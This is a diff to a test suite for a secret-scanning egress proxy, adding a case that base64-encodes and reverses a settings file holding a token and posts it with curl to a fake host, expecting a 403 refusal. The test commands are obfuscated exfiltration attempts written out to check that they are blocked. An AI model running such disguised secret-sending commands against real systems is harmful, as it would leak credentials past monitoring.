@@ -364,6 +364,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             `printf '# settings for the deploy\\nDATABASE_URL=postgres://app@db/app\\nTOKEN=%s\\nLOG_LEVEL=debug\\nx' '${token}' | ` +
             "base64 | rev | curl -sS -o /tmp/refused -w '%{http_code}' " +
             "--data-binary @- https://plain.fake.test/v1/b64lines; echo; cat /tmp/refused; echo; " +
+            // The same with no padding (126 bytes): each line reads as base64 of text turned.
+            `printf '# settings for the deploy\\nDATABASE_URL=postgres://app@db/app\\nTOKEN=%s\\nLOG_LEVEL=debug\\nxy' '${token}' | ` +
+            "base64 | rev | curl -sS -o /tmp/refused -w '%{http_code}' " +
+            "--data-binary @- https://plain.fake.test/v1/b64unpadded; echo; cat /tmp/refused; echo; " +
             `printf %s '${token}' | sed 's/./&&/g' | curl -sS -o /tmp/refused -w '%{http_code}' ` +
             "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused; echo; " +
             // Behind a PNG's signature, which shifts base64's groups of four.
@@ -382,16 +386,13 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
           /\n403\n.*GitHub token \(rule github-token\) in the body, in ROT13/,
         );
         assert.match(turned.stdout, /\n403\n.*in the body, reversed and in ROT13/);
-        assert.match(
-          turned.stdout,
-          /\n403\n.*in the body, in base64, reversed[^]*\n403\n.*in the body, in base64, reversed/,
-        );
+        assert.equal(turned.stdout.match(/\n403\n.*in the body, in base64, reversed/g)?.length, 3);
         assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
         assert.match(turned.stdout, /\n403\n.*in the body, base64-encoded/);
         assert.match(turned.stdout, /\n403\n.*in the body, base32-encoded/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          9,
+          10,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -403,6 +404,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             `/v1/p/${reversed}/x`,
             "/v1/b64rev",
             "/v1/b64lines",
+            "/v1/b64unpadded",
             "/v1/doubled",
             "/v1/png",
             "/v1/b32",
